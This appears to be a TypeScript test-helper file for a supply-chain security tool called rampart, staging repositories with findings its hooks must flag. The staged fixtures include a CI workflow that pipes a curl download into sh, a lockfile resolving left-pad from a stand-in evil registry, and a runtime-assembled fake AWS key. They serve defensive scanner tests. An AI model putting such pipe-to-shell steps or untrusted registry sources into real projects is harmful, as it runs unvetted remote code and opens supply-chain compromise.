import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { cliBin, type GitRepo, gitRepo, repoRoot, runCli, runCommand } from "../helpers/src/index.js";

/**
 * What `npm install` puts in node_modules for rampart's hooks, linked from this checkout: the
 * built CLI, and husky and commitlint from bench/ (the same pinned versions init writes). The
 * tarball tests (install.test.ts) do the real install; these tests exercise the hooks fast.
 */
export function linkTools(dir: string): void {
  const nm = join(dir, "node_modules");
  const bench = join(repoRoot, "bench", "node_modules");
  mkdirSync(join(nm, ".bin"), { recursive: true });
  mkdirSync(join(nm, "@commitlint"), { recursive: true });
  symlinkSync(join(bench, "husky"), join(nm, "husky"));
  symlinkSync(join(bench, "@commitlint", "cli"), join(nm, "@commitlint", "cli"));
  symlinkSync(join(bench, "@commitlint", "config-conventional"), join(nm, "@commitlint", "config-conventional"));
  symlinkSync(cliBin, join(nm, ".bin", "rampart"));
  symlinkSync(dirname(dirname(cliBin)), join(nm, "rampart")); // the hooks run node_modules/rampart/bin/rampart.js
  symlinkSync(join(bench, "@commitlint", "cli", "cli.js"), join(nm, ".bin", "commitlint"));
}

/**
 * What the CI workflow's first step installs outside the checkout (rampart and commitlint from
 * the registry at pinned versions), linked here: returns the RUNNER_TEMP to run its steps with.
 */
export function ciTools(dir: string): string {
  linkTools(join(dir, "rampart"));
  linkTools(join(dir, "rampart-pin"));
  return dir;
}

/** The rampart CI installs before the project's install (`lockfile pin-config`), linked: the RUNNER_TEMP. */
export function ciPinTools(dir: string): string {
  linkTools(join(dir, "rampart-pin"));
  return dir;
}

export const PACKAGE_JSON = `${JSON.stringify({ name: "shop", version: "1.0.0", private: true }, null, 2)}\n`;

/**
 * A committed npm project with rampart's tools linked and `rampart init --yes` run (not committed),
 * in a sandbox of its own. init runs once per profile and files in a test file's worker (~1 s of
 * CPU each); every later repository is a `cp -a` of what it left (modes, husky's x bits, the links
 * to this checkout's tools) into a fresh sandbox. init writes nothing outside the repository and
 * nothing naming its path, so the copy is what init makes there; only the initial commit is the
 * same commit in each copy.
 */
export async function initRepo(profile = "recommended", extra: Record<string, string> = {}): Promise<GitRepo> {
  const key = JSON.stringify(["init", profile, Object.entries(extra).sort(([a], [b]) => (a < b ? -1 : 1))]);
  return copiedRepo(key, async () => {
    const repo = await gitRepo({
      "package.json": PACKAGE_JSON,
      ".gitignore": "node_modules\n",
      "index.js": "1;\n",
      ...extra,
    });
    linkTools(repo.dir);
    const r = await runCli(["init", "--yes", "--profile", profile], { cwd: repo.dir, env: repo.env });
    if (r.exitCode !== 0) throw new Error(`rampart init failed: ${r.stderr}`);
    return repo;
  });
}

/**
 * A copy, in a fresh sandbox, of the repository `make` leaves: `make` runs once per key in a test
 * file's worker, and what it left is kept (`cp -a`: modes, husky's x bits, links) for every later
 * call. Only for repositories holding nothing that names their own path (the sandbox's HOME is not
 * copied), so that each copy is what `make` would have made there.
 */
export async function copiedRepo(key: string, make: () => Promise<GitRepo>): Promise<GitRepo> {
  let made = templates.get(key);
  if (made === undefined) {
    made = keep(make);
    templates.set(key, made);
    made.catch(() => templates.delete(key)); // the next call tries again (and reports its own failure)
  }
  const template = await made;
  const repo = await gitRepo({}, { init: false });
  const copied = await runCommand("cp", ["-a", `${template}/.`, repo.dir]);
  if (copied.exitCode !== 0) throw new Error(`copying the kept repository failed: ${copied.stderr}`);
  return repo;
}

/** Kept repositories by key: folders outside every test's sandbox, gone at exit. */
const templates = new Map<string, Promise<string>>();
let templateRoot: string | undefined;
let templateCount = 0;

async function keep(make: () => Promise<GitRepo>): Promise<string> {
  const repo = await make();
  if (templateRoot === undefined) {
    const root = mkdtempSync(join(tmpdir(), "rampart-init-templates-"));
    process.once("exit", () => rmSync(root, { recursive: true, force: true }));
    templateRoot = root;
  }
  const dir = join(templateRoot, String(templateCount++));
  const copied = await runCommand("cp", ["-a", repo.dir, dir]);
  repo.cleanup();
  if (copied.exitCode !== 0) throw new Error(`keeping the repository failed: ${copied.stderr}`);
  return dir;
}

/** An AWS access key id, assembled at runtime so that no key-shaped string sits in the source. */
export function fakeAwsKey(): string {
  return ["AKIA", "QYLP", "MN5H", "HHFK", "ZT3Q"].join("");
}

/** left-pad 1.3.0's tarball on a registry no policy allows. */
export const EVIL_LEFT_PAD = "https://npm.evil.example/left-pad/-/left-pad-1.3.0.tgz";

/** An npm v3 lockfile (the "shop" project) holding left-pad 1.3.0 from npmjs.org: `extra` merged into its entry. */
export function leftPadLock(extra: Record<string, unknown> = {}): string {
  return `${JSON.stringify(
    {
      name: "shop",
      version: "1.0.0",
      lockfileVersion: 3,
      requires: true,
      packages: {
        "": { name: "shop", version: "1.0.0", dependencies: { "left-pad": "1.3.0" } },
        "node_modules/left-pad": {
          version: "1.3.0",
          resolved: "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
          integrity: `sha512-${"A".repeat(86)}==`,
          license: "MIT",
          ...extra,
        },
      },
    },
    null,
    2,
  )}\n`;
}

/**
 * Stages, beside two lockfiles and a workflow that cannot be read, what each check must still
 * find: a root lockfile resolving from an unknown registry, a workflow piping a download into a
 * shell, an AWS key. `judgedAll` checks a hook's output for all of it, one line per broken file.
 */
export async function stageBrokenBesideFindings(repo: GitRepo): Promise<void> {
  repo.write("package-lock.json", leftPadLock({ resolved: EVIL_LEFT_PAD }));
  repo.write("a/package-lock.json", '{ "lockfileVersion": 3,\n');
  repo.write("b/pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters: [\n");
  repo.write(".github/workflows/broken.yml", "on: push\njobs: [\n");
  repo.write(
    ".github/workflows/fetch.yml",
    "on: push\npermissions: {}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://x.example/i.sh | sh\n",
  );
  repo.write("deploy.ini", `aws_access_key_id = ${fakeAwsKey()}\n`);
  await repo.git(["add", "-A"]);
}

/** What a pre-commit refusing stageBrokenBesideFindings' files must say (its stdout and stderr). */
export function judgedAll(out: string): Record<string, boolean | number> {
  const lines = out.split("\n");
  const named = (file: string) => lines.filter((l) => l.startsWith(`rampart: ${file}:`)).length;
  return {
    "disallowed host": out.includes("lockfile/disallowed-host") && out.includes("npm.evil.example"),
    "curl-pipe-shell": out.includes("workflows/curl-pipe-shell"),
    "aws key": out.includes("aws-access-key-id") && !out.includes(fakeAwsKey()),
    "a/package-lock.json": named("a/package-lock.json"),
    "b/pnpm-lock.yaml": named("b/pnpm-lock.yaml"),
    ".github/workflows/broken.yml": named(".github/workflows/broken.yml"),
  };
}

/** judgedAll's answer when everything was judged and each broken file named once. */
export const JUDGED_ALL = {
  "disallowed host": true,
  "curl-pipe-shell": true,
  "aws key": true,
  "a/package-lock.json": 1,
  "b/pnpm-lock.yaml": 1,
  ".github/workflows/broken.yml": 1,
};
